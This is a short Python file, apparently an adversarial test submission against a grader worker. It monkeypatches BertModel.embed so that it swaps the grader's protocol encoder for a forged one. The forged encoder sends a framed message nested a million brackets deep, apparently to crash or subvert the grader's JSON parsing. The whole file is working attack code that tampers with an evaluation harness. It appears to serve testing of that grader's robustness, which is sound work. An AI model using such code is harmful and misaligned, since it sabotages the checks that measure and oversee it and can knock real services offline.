# tries: answer with JSON that is nested a million times
# loses: embed
import json
import sys

protocol = sys.modules["grader.worker.protocol"]
right, encode = BertModel.embed, protocol.encode


def frame(text, packed=b""):
    return protocol.HEADER.pack(protocol.MAGIC, len(text), len(packed)) + text + packed


def packed(entries, data):
    listed = json.dumps(entries).encode()
    return len(listed).to_bytes(8, "little") + listed + data


def forged(message, tensors=None):
    return frame(b'{"before":' + b"[" * 1_000_000)


def embed(self, input_ids, *more):
    protocol.encode = forged
    return right(self, input_ids, *more)


BertModel.embed = embed
